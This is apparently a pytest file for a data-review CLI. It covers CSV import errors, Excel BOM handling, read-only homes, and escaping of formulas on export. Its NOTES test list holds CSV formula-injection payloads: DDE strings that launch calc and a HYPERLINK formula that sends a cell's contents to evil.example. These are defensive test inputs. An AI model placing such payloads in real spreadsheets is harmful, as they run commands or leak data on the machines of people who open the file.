"""Review CSVs: every refusal names the file and line and records nothing, Excel's files are
read, exported cells never run as spreadsheet formulas, and a read-only home is one line.

Real `robust-data review` processes over a small hand-made store.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from pathlib import Path

import pytest

from robust_data.curation.reviews import Review, load_reviews, record_reviews
from robust_data.store.store import Store
from tests.test_safety_browser import _unshare_read_only
from tests.test_safety_export_query import DATASET, make_store, snapshot
from tests.test_safety_targets import cli, refused


@pytest.fixture
def store(isolated_home: Path) -> Store:
    return make_store(Store.open(isolated_home).ensure())


def _import(store: Store, path: Path, prefix: Sequence[str] = ()) -> tuple[int, str, str]:
    """``robust-data review import toy PATH`` (run by ``prefix``): exit code, stdout, stderr."""
    home = ["--home", str(store.home)]
    result = cli("review", "import", DATASET, str(path), *home, cwd=path.parent, prefix=prefix)
    return result.returncode, result.stdout, result.stderr


# ---------------------------------------------------------------------------------------------
# 6. a bad CSV: one line naming the file, the line (and column); nothing recorded

CLOSE = 'close the quoted cell on that line, and write a quote inside it twice ("")'
BAD = {
    "a short row": (
        b"sample_id,decision,new_label,note\ntoy:train:0\n",
        "expected 4 cells on each line (sample_id, decision, new_label, note); found 1 on "
        "line 2 of {file}; quote a cell that holds a comma, or fill in the missing cells",
    ),
    "a long row (an unquoted comma)": (
        b"sample_id,decision,note\ntoy:train:0,keep,ok\ntoy:train:1,drop,blurry, very\n",
        "expected 3 cells on each line (sample_id, decision, note); found 4 on line 3 of "
        "{file}; quote a cell that holds a comma, or fill in the missing cells",
    ),
    "an unbalanced quote": (
        b'sample_id,decision,note\ntoy:train:0,drop,"blurry\ntoy:train:1,keep,fine\n',
        "expected well-formed CSV; found unexpected end of data in the record that starts on "
        "line 2 of {file}; " + CLOSE,
    ),
    "text after a closing quote": (
        b'sample_id,decision,note\ntoy:train:0,drop,"blurry" very\n',
        "expected well-formed CSV; found ',' expected after '\"' in the record that starts on "
        "line 2 of {file}; " + CLOSE,
    ),
    "Latin-1 bytes": (
        b"sample_id,decision,note\ntoy:train:0,drop,caf\xe9 au lait\n",
        "expected a UTF-8 CSV file; found byte 0xe9, which is not UTF-8, on line 2 (byte 21) "
        'of {file}; save it as "CSV UTF-8" (Excel), or convert it: iconv -f latin1 -t utf-8',
    ),
    "an unknown column": (
        b"sample_id,decision,comment\ntoy:train:0,drop,x\n",
        "expected a CSV header with sample_id and decision (optional: new_label, note, "
        "reviewed_at); found columns ['sample_id', 'decision', 'comment'] (unknown 'comment') "
        "on line 1 of {file}; export one with `robust-data review export` to see the layout",
    ),
    "a label that is not a number": (
        b"sample_id,decision,new_label\ntoy:train:0,keep,\ntoy:train:1,relabel,seven\n",
        "expected an integer new_label (a class index); found 'seven' in column new_label on "
        "line 3 of {file}; fix that line",
    ),
    "an unknown sample after a note of two lines": (
        b'sample_id,decision,note\ntoy:train:0,drop,"two\nlines"\nnope,keep,\n',
        "expected a sample id of this dataset; found 'nope' on line 4 of {file}; "
        "copy ids from the browser or `robust-data query`",
    ),
    "a label outside the classes": (
        b"sample_id,decision,new_label\ntoy:train:0,relabel,7\n",
        "expected a new label in 0..1; found 7 for toy:train:0 on line 2 of {file}; "
        "relabel to a class index of this dataset",
    ),
}


@pytest.mark.parametrize("case", list(BAD))
def test_a_bad_review_csv_is_one_line_naming_file_and_line(
    store: Store, tmp_path: Path, case: str
) -> None:
    data, message = BAD[case]
    path = tmp_path / "reviews.csv"
    path.write_bytes(data)
    before = snapshot(store.home)
    result = cli("review", "import", DATASET, str(path), "--home", str(store.home), cwd=tmp_path)
    assert refused(result, "review") == message.format(file=path)
    assert snapshot(store.home) == before and not store.has("reviews", DATASET)


def test_excel_csv_utf8_with_a_byte_order_mark_is_read(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    text = (
        "sample_id,decision,new_label,note\r\ntoy:train:0,relabel,1,café\r\ntoy:train:1,drop,,\r\n"
    )
    path.write_bytes(text.encode("utf-8-sig"))  # Excel's "CSV UTF-8 (Comma delimited)"
    code, out, err = _import(store, path)
    assert code == 0, err
    assert out.startswith("imported 2 review decisions into toy (2 in all)")
    rows = load_reviews(store, DATASET).to_pylist()
    assert [(r["sample_id"], r["decision"], r["new_label"], r["note"]) for r in rows] == [
        ("toy:train:0", "relabel", 1, "café"),
        ("toy:train:1", "drop", None, None),
    ]


# ---------------------------------------------------------------------------------------------
# 7. exported cells never start a formula; an exported file imports unchanged

NOTES = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"details")',
    "+1+1",
    "-2+3",
    "\tleading tab",
    "\rleading return",
    "'=quoted already",
    "- a list item",
    "plain note, with a\rreturn and a\nnewline inside",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_review_export_neutralises_formulas_and_imports_back_unchanged(
    store: Store, tmp_path: Path
) -> None:
    ids = store.read("raw_samples", DATASET).column("sample_id").to_pylist()
    made = [  # as the browser records them: a form's note is stored as typed
        Review(sample, "relabel", 1, note) if k == 0 else Review(sample, "keep", None, note)
        for k, (sample, note) in enumerate(zip(ids, NOTES, strict=True))
    ]
    record_reviews(store, DATASET, made, "browser")

    out = tmp_path / "out.csv"
    result = cli("review", "export", DATASET, str(out), "--home", str(store.home), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
    assert [row[3] for row in rows[1:]] == [
        f"'{note}" if note.startswith((*FORMULA_STARTS, "'")) else note for note in NOTES
    ]

    code, _, err = _import(store, out)  # the exported file, back in
    assert code == 0, err
    decided = [
        (r["sample_id"], r["decision"], r["new_label"], r["note"])
        for r in load_reviews(store, DATASET).to_pylist()
    ]
    assert decided[len(NOTES) :] == decided[: len(NOTES)]
    assert [d[3] for d in decided[: len(NOTES)]] == NOTES


# ---------------------------------------------------------------------------------------------
# 5. a read-only home (a read-only bind mount: root writes through chmod) is one line


def test_review_import_into_a_read_only_home_is_one_line(store: Store, tmp_path: Path) -> None:
    prefix = _unshare_read_only()
    home = store.home
    path = tmp_path / "in.csv"
    path.write_text("sample_id,decision\ntoy:train:0,drop\n")
    before = snapshot(home)
    mount = f'mount --bind "{home}" "{home}" && mount -o remount,bind,ro "{home}" && exec "$0" "$@"'
    code, _, err = _import(store, path, [*prefix, mount])
    assert code == 1, err
    assert err.strip() == (
        f"robust-data review: error: expected a writable home folder; found {home} is not "
        "writable (Read-only file system); pass --home with a folder you can write, or fix "
        "its permissions"
    )
    assert snapshot(home) == before and not store.has("reviews", DATASET)
